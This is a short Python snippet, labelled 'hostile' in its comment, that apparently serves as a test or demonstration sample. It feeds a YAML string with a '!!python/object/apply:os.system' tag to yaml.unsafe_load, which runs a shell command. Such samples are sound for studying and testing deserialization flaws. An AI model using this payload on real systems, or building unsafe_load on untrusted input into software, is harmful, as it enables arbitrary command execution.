# hostile: yaml unsafe_load of a python/object/apply tag
import yaml

doc = "!!python/object/apply:os.system ['id']"
yaml.unsafe_load(doc)
